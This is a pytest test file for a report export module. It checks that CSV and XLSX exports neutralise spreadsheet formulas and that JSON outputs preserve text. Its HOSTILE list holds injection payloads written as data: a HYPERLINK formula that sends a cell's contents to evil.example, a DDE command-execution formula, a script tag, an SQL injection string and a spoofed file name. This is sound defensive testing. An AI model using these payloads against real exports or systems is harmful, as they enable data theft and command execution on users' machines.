"""Every format has the same keys, and none of them runs what a page wrote."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from reports.exports.export_types import UnknownExportError
from reports.exports.formats import xlsx
from reports.exports.row_files import safe_text, write, write_all
from reports.exports.run_export import export

HOSTILE = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "\x00=1+1",
    "\x1b[31m=1",
    "  =1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"; DROP TABLE page; --',
    'a,b\n"c";d',
    "#REF!",
    "\ud800 half a character",
    "\ufffe\uffff",
    "x" * 40_000,
    "]]><!--",
    "\u202egnp.exe",
]
COLUMNS = ("run", "title", "words")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def written(form: str, rows: list[dict[str, object]]) -> bytes:
    out = io.BytesIO()
    assert write(rows, COLUMNS, form, out) == len(rows)
    return out.getvalue()


def rows_of(*titles: object) -> list[dict[str, object]]:
    return [{"run": 1, "title": title, "words": None, "more": 1} for title in titles]


def cells(form: str, data: bytes) -> list[object]:
    """The titles that another program reads."""
    if form == "csv":
        return [r["title"] for r in csv.DictReader(io.StringIO(data.decode(), newline=""))]
    if form == "json":
        return [r["title"] for r in json.loads(data)]
    if form == "jsonl":
        return [json.loads(line)["title"] for line in data.decode().splitlines()]
    sheet = load_workbook(io.BytesIO(data))["rows"]
    return [row[1].value for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_spreadsheet_never_gets_a_formula(form: str, payload: str) -> None:
    (cell,) = cells(form, written(form, rows_of(payload)))
    text = str(cell or "")
    assert not text.lstrip(" \n").startswith(STARTS)
    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in text)


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_a_workbook_holds_no_formula_and_no_error_cell(payload: str) -> None:
    with zipfile.ZipFile(io.BytesIO(written("xlsx", rows_of(payload)))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b't="e"' not in sheet


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_json_keeps_every_character_that_utf8_can_carry(form: str, payload: str) -> None:
    expected = payload.encode("utf-8", "replace").decode()
    assert cells(form, written(form, rows_of(payload))) == [expected]


@pytest.mark.parametrize("form", ["csv", "json", "jsonl", "xlsx"])
def test_every_format_has_the_same_keys_and_rows(form: str) -> None:
    data = written(form, rows_of("Bins", "Pay, now"))
    assert cells(form, data) == ["Bins", "Pay, now"]
    if form == "csv":
        assert data.splitlines()[0] == b"run,title,words"
    if form == "json":
        assert list(json.loads(data)[0]) == list(COLUMNS)


@pytest.mark.parametrize(
    ("form", "empty"), [("csv", b"run,title,words\r\n"), ("json", b"[]\n"), ("jsonl", b"")]
)
def test_no_rows_is_a_whole_file(form: str, empty: bytes) -> None:
    assert written(form, []) == empty


def test_numbers_stay_numbers_and_a_negative_one_is_no_formula() -> None:
    rows = [{"run": 1, "title": -5, "words": 2.5}]
    assert written("csv", rows).splitlines()[1] == b"1,-5,2.5"
    assert cells("xlsx", written("xlsx", rows)) == [-5]


def test_what_does_not_fit_a_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "ROWS", 3)
    book = load_workbook(io.BytesIO(written("xlsx", rows_of(*"abcde"))))
    assert book.sheetnames == ["rows", "rows 2", "rows 3"]
    assert [[c.value for c in row][1] for row in book["rows 2"].iter_rows()] == ["title", "c", "d"]


def test_the_same_rows_are_the_same_bytes() -> None:
    assert written("xlsx", rows_of("Bins")) == written("xlsx", rows_of("Bins"))


def test_several_formats_in_one_pass() -> None:
    outs = {"csv": io.BytesIO(), "jsonl": io.BytesIO()}
    once = iter(rows_of("Bins"))
    assert write_all(once, COLUMNS, outs, "rows") == 1
    assert [cells(form, out.getvalue()) for form, out in outs.items()] == [["Bins"], ["Bins"]]


def test_an_unknown_format_names_the_known() -> None:
    with pytest.raises(UnknownExportError, match="csv, json, jsonl, xlsx"):
        write([], COLUMNS, "pdf", io.BytesIO())


ENDS_WELL = ("ok", "redirect")


@pytest.mark.parametrize("kind", ["pages", "links", "findings", "issues", "queries", "decisions"])
def test_a_kind_of_a_run(kind: str, report: Callable[..., Any]) -> None:
    made = report()
    out = io.BytesIO()
    count = export(made.workspace, made.config, made.run.id, kind, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert count == len(rows)
    told = list(csv.DictReader((made.folder / "exports" / f"{kind}.csv").open(newline="")))
    # Of links the report holds only those that do not end well: all of them would be most of it.
    assert told == [row for row in rows if kind != "links" or row["state"] not in ENDS_WELL]
    assert told or kind in ("queries", "decisions")


@pytest.mark.parametrize(
    ("run", "kind", "says"), [(1, "secrets", "pages, links"), (9, "pages", "no run 9")]
)
def test_what_cannot_be_exported(
    run: int, kind: str, says: str, report: Callable[..., Any]
) -> None:
    made = report()
    with pytest.raises(UnknownExportError, match=says):
        export(made.workspace, made.config, run, kind, "csv", io.BytesIO())


@pytest.mark.parametrize(
    ("text", "safe"), [("Pay", "Pay"), ("=1", "'=1"), ("5-4", "5-4"), ("", "")]
)
def test_safe_text(text: str, safe: str) -> None:
    assert safe_text(text) == safe
